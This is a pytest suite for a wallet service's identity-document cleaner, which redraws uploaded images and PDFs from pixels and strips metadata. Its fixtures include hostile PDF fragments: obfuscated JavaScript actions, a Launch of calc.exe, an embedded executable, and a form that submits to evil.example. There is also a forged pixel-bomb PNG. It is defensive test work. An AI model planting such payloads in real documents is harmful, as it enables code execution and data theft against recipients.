"""Uploaded documents: what they are is read from their bytes; what is kept is drawn again from pixels."""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Mapping
from types import SimpleNamespace

import pypdfium2
import pytest
from PIL import Image

from tests.support.cleaning import clean_here
from tests.support.pdfs import HONEST, open_pdf, packed_pdf, stream
from wallet_service.identity import documents, redrawing
from wallet_service.identity.errors import (
    DocumentTooLarge,
    DocumentTooManyPages,
    DocumentTooManyPixels,
    DocumentTypeRefused,
)

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
#: What a reader would run, open or hide, by name; `#61` is another way to write the letter a.
HOSTILE: dict[str, Mapping[int, bytes]] = {
    "script by name": {1: HONEST[1][:-2] + b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>>>", 5: SCRIPT},
    "script in other letters": {
        1: HONEST[1][:-2] + b"/N#61mes<</J#61vaScript<</Names[(a)5 0 R]>>>>>>",
        5: b"<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>",
    },
    "script on opening": {1: HONEST[1][:-2] + b"/Open#41ction 5 0 R>>", 5: SCRIPT},
    "script on the page": {3: HONEST[3][:-2] + b"/AA<</O 5 0 R>>>>", 5: SCRIPT},
    "program to launch": {1: HONEST[1][:-2] + b"/OpenAction<</S/Launch/F(calc.exe)>>>>"},
    "attachment": {
        1: HONEST[1][:-2] + b"/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>>>",
        5: b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
        6: stream(b"MZ hidden", b"/Type/EmbeddedFile"),
    },
    "form that sends": {
        1: HONEST[1][:-2] + b"/AcroForm<</Fields[5 0 R]/XFA 6 0 R>>>>",
        3: HONEST[3][:-2] + b"/Annots[5 0 R]>>",
        5: b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]"
        b"/A<</S/SubmitForm/F(http://evil.example)>>>>",
        6: stream(b"<xdp/>"),
    },
}


def encoded(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    kept = io.BytesIO()
    Image.new(mode, size, (10, 120, 90, 255)[: len(mode)]).save(kept, kind, **options)
    return kept.getvalue()


def names_in(pdf: bytes) -> set[bytes]:
    """Every name of a PDF whose objects all lie in the open; fails for one that could hide some."""
    bare = re.sub(rb"stream\n.*?\nendstream", b"", pdf, flags=re.S)
    assert b"ObjStm" not in bare
    assert b"#" not in bare
    return set(re.findall(rb"/(\w+)", bare))


#: What Pillow writes for pages of pictures.
NAMES_OF_PICTURES = names_in(encoded("PDF")) - {b"Info", b"CreationDate", b"ModDate", b"Title"}


@pytest.mark.parametrize(("kind", "media_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png")])
def test_a_picture_is_known_by_its_bytes_and_encoded_again(kind: str, media_type: str) -> None:
    cleaned = clean_here("a", encoded(kind))
    assert cleaned.media_type == media_type
    assert Image.open(io.BytesIO(cleaned.content)).size == (60, 40)


def test_metadata_and_what_follows_the_picture_are_gone() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0112] = 6  # turned: 60x40 is shown 40x60
    cleaned = clean_here("a", encoded("JPEG", exif=exif, comment=b"note") + b"<script>alert(1)</script>")
    assert b"SecretCamera" not in cleaned.content
    assert b"note" not in cleaned.content
    assert b"script" not in cleaned.content
    picture = Image.open(io.BytesIO(cleaned.content))
    assert not picture.getexif()
    assert picture.size == (40, 60)


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_large_picture_is_reduced_and_turned_upright(kind: str) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    cleaned = clean_here("a", encoded(kind, (4000, 1000), exif=exif))
    assert Image.open(io.BytesIO(cleaned.content)).size == (750, 3000)


@pytest.mark.parametrize(
    ("size", "fraction"),
    [
        ((4000, 3000), (4000, 3000)),
        ((5000, 4000), (2500, 2000)),
        ((8160, 6120), (4080, 3060)),
        ((8000, 8000), (4000, 4000)),
        ((40_000, 900), (5000, 113)),
    ],
)
def test_a_large_jpeg_is_decoded_at_a_fraction(
    size: tuple[int, int], fraction: tuple[int, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    decoded: list[tuple[int, int]] = []
    thumbnail = Image.Image.thumbnail

    def note(self: Image.Image, *given: object, **named: object) -> None:
        decoded.append(self.size)
        thumbnail(self, *given, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(Image.Image, "thumbnail", note)
    cleaned = clean_here("a", encoded("JPEG", size))
    assert decoded == [fraction]
    assert max(Image.open(io.BytesIO(cleaned.content)).size) == min(3000, max(fraction))


@pytest.mark.parametrize(
    ("kind", "size", "limit"),
    [
        ("PNG", (6324, 6324), 16),
        ("PNG", (4001, 4000), 16),
        ("JPEG", (8001, 8000), 64),
    ],
)
def test_a_picture_with_too_many_pixels_is_refused_before_it_is_decoded(
    kind: str, size: tuple[int, int], limit: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = encoded(kind, size)
    monkeypatch.setattr(Image.Image, "load", _never)
    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", _never)
    with pytest.raises(DocumentTooManyPixels) as refusal:
        clean_here("a", content)
    assert refusal.value.values == {"limit_megapixels": limit}


def _never(*given: object) -> None:
    raise AssertionError("decoded")


def test_a_small_file_that_claims_a_huge_picture_is_refused() -> None:
    bomb = bytearray(encoded("PNG"))
    bomb[16:24] = (60_000).to_bytes(4, "big") * 2
    with pytest.raises((DocumentTooManyPixels, DocumentTypeRefused)):
        clean_here("a", bytes(bomb))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"hello",
        b"GIF89a" + bytes(40),
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"MZ" + bytes(100),
        b"\xff\xd8\xff\xe0truncated",
        b"\x89PNG\r\n\x1a\n" + bytes(30),
        b"%PDF-1.7\nnothing\n%%EOF\n",
        open_pdf()[:60],
        open_pdf({1: HONEST[1], 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
    ],
)
def test_anything_else_is_refused_whatever_it_calls_itself(content: bytes) -> None:
    with pytest.raises(DocumentTypeRefused):
        clean_here("a", content)


@pytest.mark.parametrize("content", [b"\xff\xd8\xff\xe0no picture", b"\x89PNG\r\n\x1a\n" + bytes(30)])
def test_no_other_decoder_is_asked_than_that_of_the_type(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    def takes_anything(file: object, name: object) -> Image.Image:
        asked.append("ANYTHING")
        return Image.new("RGB", (1, 1))

    Image.preinit()
    monkeypatch.setattr(Image, "ID", ["ANYTHING", *Image.ID])
    monkeypatch.setitem(Image.OPEN, "ANYTHING", (takes_anything, None))
    with pytest.raises(DocumentTypeRefused):
        clean_here("a", content)
    assert asked == []


@pytest.mark.parametrize("error", [KeyError("x"), ZeroDivisionError(), RuntimeError("x"), OverflowError()])
def test_whatever_a_decoder_raises_is_a_refusal(error: Exception, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*given: object, **named: object) -> None:
        raise error

    monkeypatch.setattr(Image, "open", fail)
    with pytest.raises(DocumentTypeRefused):
        clean_here("a", encoded("PNG"))


def test_a_drawing_of_another_type_than_what_was_sent_is_not_kept() -> None:
    """Whatever a document made its process say."""
    sandbox = SimpleNamespace(run=lambda member_id, task, content: encoded("PNG"))
    clean = documents.DocumentCleaner(sandbox)  # type: ignore[arg-type]
    assert clean("a", encoded("PNG")).media_type == "image/png"
    with pytest.raises(DocumentTypeRefused):
        clean("a", encoded("JPEG"))


def test_a_truncated_picture_is_refused() -> None:
    whole = encoded("JPEG", (600, 400))
    with pytest.raises(DocumentTypeRefused):
        clean_here("a", whole[: len(whole) // 2])


@pytest.mark.parametrize("written", [open_pdf, packed_pdf])
def test_a_pdf_is_kept_as_a_picture_of_its_pages(written: Callable[[Mapping[int, bytes]], bytes]) -> None:
    kept = clean_here("a", written(HONEST))
    assert kept.media_type == "application/pdf"
    document = pypdfium2.PdfDocument(kept.content)
    assert len(document) == 1
    assert [round(side) for side in document[0].get_size()] == [200, 200]
    picture = document[0].render().to_pil().convert("RGB")
    red, green, blue = picture.getpixel((100, 100))
    assert (red < 20, 110 < green < 145, 60 < blue < 95) == (True, True, True)
    assert names_in(kept.content) == NAMES_OF_PICTURES


def test_each_page_of_a_kept_pdf_is_a_picture_of_its_own() -> None:
    written, whole = pypdfium2.PdfDocument.new(), io.BytesIO()
    for side in (100, 200):
        written.new_page(side, 100)
    written.save(whole)
    kept = clean_here("a", whole.getvalue())
    pages = documents.pages_of(kept)
    assert {page.media_type for page in pages} == {"image/jpeg"}
    assert [Image.open(io.BytesIO(page.content)).size for page in pages] == [(278, 278), (556, 278)]
    picture = clean_here("a", encoded("PNG"))
    assert documents.pages_of(picture) == [picture]


@pytest.mark.parametrize("written", [open_pdf, packed_pdf])
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
def test_nothing_of_a_pdf_is_kept_but_its_looks(
    hostile: Mapping[int, bytes], written: Callable[[Mapping[int, bytes]], bytes]
) -> None:
    """However it is written: nothing is looked for, so nothing can hide."""
    kept = clean_here("a", written({**HONEST, **hostile})).content
    assert names_in(kept) == NAMES_OF_PICTURES
    for word in (b"alert", b"evil.example", b"MZ hidden", b"calc.exe"):
        assert word not in kept


@pytest.mark.parametrize("written", [open_pdf, packed_pdf])
def test_a_reader_finds_script_and_attachment_in_what_was_sent_and_none_in_what_is_kept(
    written: Callable[[Mapping[int, bytes]], bytes],
) -> None:
    for name, found in (("script in other letters", (1, 0)), ("attachment", (0, 1))):
        sent = written({**HONEST, **HOSTILE[name]})
        assert _active_parts(sent) == found
        assert _active_parts(clean_here("a", sent).content) == (0, 0)


def _active_parts(pdf: bytes) -> tuple[int, int]:
    """Scripts and attachments, as a reader counts them."""
    document = pypdfium2.PdfDocument(pdf)
    return pypdfium2.raw.FPDFDoc_GetJavaScriptActionCount(document), document.count_attachments()


def test_a_pdfs_author_is_not_kept() -> None:
    sent = open_pdf({**HONEST, 5: b"<</Author(Camille Roussel)/Producer(Scanner 7)>>"}, b"/Info 5 0 R")
    assert pypdfium2.PdfDocument(sent).get_metadata_dict()["Author"] == "Camille Roussel"
    kept = pypdfium2.PdfDocument(clean_here("a", sent).content)
    assert not any(kept.get_metadata_dict().values())


def test_what_is_filled_into_a_form_is_seen() -> None:
    looks = stream(b"1 0 0 rg 0 0 40 40 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 40 40]")
    sent = {
        1: HONEST[1][:-2] + b"/AcroForm<</Fields[5 0 R]>>>>",
        3: HONEST[3][:-2] + b"/Annots[5 0 R]>>",
        5: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(x)/F 4/Rect[80 80 120 120]/AP<</N 6 0 R>>>>",
        6: looks,
    }
    kept = pypdfium2.PdfDocument(clean_here("a", open_pdf({**HONEST, **sent})).content)
    red, green, _ = kept[0].render().to_pil().convert("RGB").getpixel((100, 100))
    assert (red > 200, green < 60) == (True, True)


def test_a_pdf_with_too_many_pages_is_refused_before_one_is_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
    pages = b" ".join([b"3 0 R"] * (redrawing.MAX_PAGES + 1))
    sent = {**HONEST, 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (pages, redrawing.MAX_PAGES + 1)}
    monkeypatch.setattr(redrawing, "_page", _never)
    with pytest.raises(DocumentTooManyPages):
        clean_here("a", open_pdf(sent))


def test_a_page_as_large_as_a_field_is_drawn_no_larger_than_others() -> None:
    sent = {**HONEST, 3: HONEST[3].replace(b"[0 0 200 200]", b"[0 0 14400 14400]")}
    kept = pypdfium2.PdfDocument(clean_here("a", open_pdf(sent)).content)
    assert max(kept[0].get_size()) * 200 / 72 <= redrawing.PAGE_SIDE_PIXELS + 1


def test_a_document_over_eight_megabytes_is_refused() -> None:
    with pytest.raises(DocumentTooLarge):
        documents.media_type_of(b"%PDF-" + bytes(documents.MAX_DOCUMENT_BYTES))
